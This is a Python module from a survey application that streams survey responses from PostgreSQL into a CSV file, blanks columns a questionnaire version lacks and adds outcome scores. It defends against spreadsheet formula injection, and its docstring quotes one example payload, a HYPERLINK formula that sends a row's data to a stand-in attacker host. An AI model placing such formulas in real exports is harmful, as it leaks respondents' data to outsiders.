"""The CSV export: UTF-8, a header row, one row per response.

PostgreSQL itself turns each response into text cells (``console.sql``, ``export_cells``; the item keys
travel as a query parameter), so no answer JSON is decoded in Python: Python only blanks the cells a
version lacks and adds the outcome scores. This keeps the CSV close to the speed of PostgreSQL's own
``COPY`` (``benchmarks/export.py``).

A CSV file opened in a spreadsheet runs any cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or a carriage return) as a formula: a respondent's free-text answer
``=HYPERLINK("http://evil.example/?x="&B2,"Click")`` would become a link that sends the row's data away.
As OWASP recommends ("CSV Injection"), such a text cell is written with a ``'`` in front
(:func:`neutralise`), which the spreadsheet shows as text: in the responses, the answers to the free-text
items of each version (a batch's few text cells, checked in Python: cheaper than a test in PostgreSQL on
every cell); in the codebook, every text. Numbers are never
touched (a negative answer stays a number), and the Excel and SPSS files need none of this: they store
text as text.
"""

from __future__ import annotations

import csv
import io
import math
import os
from collections.abc import AsyncIterator, Sequence
from itertools import compress
from operator import itemgetter
from typing import Final

import asyncpg
import numpy as np

from survey.analysis import scoring
from survey.db import console as console_db
from survey.db.questionnaires import QuestionnaireVersion
from survey.exports.plan import META_COLUMNS, STATUS, ExportPlan, exported_items
from survey.exports.rows import (
    BATCH,
    Progress,
    Row,
    Snapshot,
    append_scores,
    score_rows,
    version_groups,
)

__all__ = ["FORMULA_STARTS", "csv_chunks", "neutralise", "write_csv"]

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection")."""


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: with a ``'`` in front when it begins with one of
    :data:`FORMULA_STARTS`.

    >>> neutralise("=1+1"), neutralise("-5 kg"), neutralise("fine")
    ("'=1+1", "'-5 kg", 'fine')
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# -- rows of text -------------------------------------------------------------------------------------


def _answer_columns(plan: ExportPlan) -> tuple[list[str], list[str | None]]:
    """The item key and the choice (None for a one-answer item) of every answer column, in order."""
    answer = [c for c in plan.columns if c.kind in ("item", "choice")]
    return [c.key or "" for c in answer], [c.choice for c in answer]


def _guards(plan: ExportPlan) -> list[bool]:
    """For every answer column, whether it holds free text (see :func:`neutralise`)."""
    free_text = {i.key for i in plan.items if i.free_text}
    return [
        c.kind == "item" and c.key in free_text
        for c in plan.columns
        if c.kind in ("item", "choice")
    ]


def _floats(cells: Sequence[str | None]) -> list[float]:
    """Numeric answers from their text (NaN for none; for text that is no number too)."""
    try:
        return [math.nan if c is None else float(c) for c in cells]
    except ValueError:
        floats = []
        for c in cells:
            try:
                floats.append(math.nan if c is None else float(c))
            except ValueError:
                floats.append(math.nan)
        return floats


class _TextReader:
    """How to read the text cells of the responses to one version: the cells to blank (columns of
    items or choices the version does not have), the cells of free text to guard against formulas and
    the cells the outcome scores are computed from."""

    def __init__(self, plan: ExportPlan, version: QuestionnaireVersion) -> None:
        q = version.definition
        self.definition = q
        own = {i.key: i for i in exported_items(q)}
        own_choices = {
            key: [c.value for c in q.choices_for(i)]
            for key, i in own.items()
            if i.type == "multi" and i.choices is not None
        }
        offset = len(META_COLUMNS) + plan.has_pairs
        keys, choices = _answer_columns(plan)
        position: dict[tuple[str, str | None], int] = {}
        self.blanks: list[int] = []
        for n, (key, choice) in enumerate(zip(keys, choices, strict=True)):
            position[key, choice] = offset + n
            lacking = key not in own if choice is None else choice not in own_choices.get(key, ())
            if lacking:
                self.blanks.append(offset + n)
        self.free_text = [
            position[key, None]
            for key, item in own.items()
            if item.type == "text" and (key, None) in position
        ]
        needed: set[str] = set()
        for outcome in q.outcomes.values():
            needed.update(outcome.items or ())
            if outcome.item:
                needed.add(outcome.item)
        # (key, kind, cell positions, the version's choices of a multi item)
        self.sources: list[tuple[str, str, list[int], list[str]]] = []
        for key in sorted(needed & own.keys()):
            item = own[key]
            if item.type == "multi":
                at = [position.get((key, c)) for c in own_choices.get(key, [])]
                if at and None not in at:
                    self.sources.append((key, "multi", at, own_choices[key]))  # type: ignore[arg-type]
            elif (key, None) in position:
                kind = "number" if item.type in ("likert", "integer", "decimal") else "text"
                self.sources.append((key, kind, [position[key, None]], []))

    def blank(self, rows: list[Row]) -> None:
        if self.blanks:
            for row in rows:
                for n in self.blanks:
                    row[n] = None

    def guard(self, rows: list[Row]) -> None:
        """Put a ``'`` in front of every free-text answer a spreadsheet would run (:func:`neutralise`)."""
        for n in self.free_text:
            for row in rows:
                text = row[n]
                if text and text.startswith(FORMULA_STARTS):
                    row[n] = "'" + text

    def scores(self, plan: ExportPlan, rows: list[Row]) -> list[tuple[float | None, ...]]:
        """The outcome scores of these rows (responses to this version), as stored answers would
        score them: choice cells are the answers, numbers are parsed, multi 0/1 cells become lists."""
        # Only the cells the scores read are taken out of the rows (a column at a time, in C).
        columns: dict[str, Sequence[object]] = {}
        for key, kind, at, values in self.sources:
            if kind == "text":
                columns[key] = list(map(itemgetter(at[0]), rows))
            elif kind == "number":
                columns[key] = _floats(list(map(itemgetter(at[0]), rows)))
            else:
                marks = np.array([[row[n] for n in at] for row in rows], dtype=object)
                answered = (marks[:, 0] != None).tolist()  # noqa: E711 (elementwise)
                columns[key] = [
                    list(compress(values, chosen)) if shown else None
                    for chosen, shown in zip((marks == "1").tolist(), answered, strict=True)
                ]
        status = map(itemgetter(STATUS), rows)
        complete = np.fromiter(map("complete".__eq__, status), dtype=bool, count=len(rows))
        frame = scoring.frame_from_columns(self.definition, columns, n=len(rows), complete=complete)
        return score_rows(plan, self.definition, frame)


async def _text_batches(
    conn: asyncpg.Connection, plan: ExportPlan, progress: Progress | None, total: int
) -> AsyncIterator[list[Row]]:
    """The export's rows as text cells (None = empty), a batch at a time (inside a transaction)."""
    readers = {vid: _TextReader(plan, v) for vid, v in plan.versions.items()}
    keys, choices = _answer_columns(plan)

    def score(
        vid: int, rows: list[Row], _positions: list[int] | None
    ) -> list[tuple[float | None, ...]]:
        return readers[vid].scores(plan, rows)

    done = 0
    for wave in plan.waves:
        async for batch in console_db.response_cells(
            conn,
            wave.id,
            plan.statuses,
            head=(wave.key, wave.phase, wave.arm),
            keys=keys,
            choices=choices,
            panel=plan.has_pairs,
            batch=BATCH,
        ):
            version_ids = [vid for vid, _ in batch]
            rows: list[Row] = [cells for _, cells in batch]
            groups = [
                (readers[vid], rows if positions is None else [rows[n] for n in positions])
                for vid, positions in version_groups(version_ids)
            ]
            for reader, chosen in groups:
                reader.blank(chosen)
            append_scores(rows, version_ids, plan, score)
            for reader, chosen in groups:  # after scoring, which reads the answers as stored
                reader.guard(chosen)
            yield rows
            done += len(batch)
            if progress is not None:
                progress(done, total)


# -- the file ---------------------------------------------------------------------------------------


async def csv_chunks(
    conn: asyncpg.Connection,
    plan: ExportPlan,
    *,
    progress: Progress | None = None,
    delivered: list[int] | None = None,
) -> AsyncIterator[bytes]:
    """The CSV (UTF-8, header first), one encoded batch of rows at a time.

    ``delivered``, when given, gets the number of rows appended once the last one was produced.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([c.name for c in plan.columns])
    n = 0
    async with Snapshot(conn, plan) as snapshot:
        async for batch in _text_batches(conn, plan, progress, snapshot.total):
            writer.writerows(batch)
            n += len(batch)
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue().encode()
    if delivered is not None:
        delivered.append(n)


async def write_csv(
    conn: asyncpg.Connection, plan: ExportPlan, path: str | os.PathLike[str], *,
    progress: Progress | None = None,
) -> int:  # fmt: skip
    """Write the CSV to ``path``; return the number of responses."""
    delivered: list[int] = []
    with open(path, "wb") as f:
        async for chunk in csv_chunks(conn, plan, progress=progress, delivered=delivered):
            f.write(chunk)
    return delivered[0]
